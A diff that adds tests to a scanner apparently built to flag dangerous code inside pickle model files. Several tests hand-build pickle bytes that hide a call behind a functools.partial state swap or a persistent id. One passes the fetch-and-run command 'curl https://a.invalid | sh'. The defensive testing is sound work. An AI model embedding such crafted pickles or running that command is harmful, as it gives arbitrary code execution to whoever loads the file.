@@ -1,8 +1,10 @@
 """What a person is told about a pickle: dangerous calls however they are written, and no alarm for ordinary models."""
 
 import base64
+import functools
 import pickle
 import zlib
+from collections import OrderedDict
 
 import pytest
 
@@ -434,3 +436,26 @@ def test_every_call_that_a_person_is_shown_stays_short() -> None:
 
 def _longest(inspection: Inspection) -> int:
     return max(len(fact.value) for found in inspection.findings.values() for fact in found.evidence)
+
+
+# -- functions completed with some of their arguments
+
+
+@pytest.mark.parametrize("protocol", range(6))
+def test_a_completed_function_is_ordinary_and_its_state_is_no_patch(protocol: int) -> None:
+    inspection = look_at("model.pkl", pickle.dumps([functools.partial(OrderedDict, a=1)], protocol))
+    assert levels(inspection) == {"pickle": Level.NOTE}
+
+
+def test_what_the_state_of_a_completed_function_puts_in_its_place_is_what_is_called() -> None:
+    made = name("functools", "partial") + b"(" + name("collections", "OrderedDict") + b"tR"
+    swapped = made + b"(" + name("acme.tools", "helper") + b")}Ntb"
+    called = pickled(swapped + b"(" + text("curl https://a.invalid | sh") + b"tR")
+    assert levels(look_at("model.pkl", called))["pickle-unknown"] is Level.HIGH
+
+
+def test_a_class_of_an_old_checkpoint_comes_through_a_persistent_id() -> None:
+    known = b"(" + text("module") + name("torch.nn.modules.linear", "Linear") + text("a.py") + text("") + b"tQ"
+    assert levels(look_at("model.pkl", pickled(known + b")\x81}b"))) == {"pickle": Level.NOTE}
+    unknown = known.replace(b"torch.nn.modules.linear\nLinear", b"acme.tools\nrun_all")
+    assert levels(look_at("model.pkl", pickled(unknown + b"(" + text("x") + b"tR")))["pickle-unknown"] is Level.HIGH
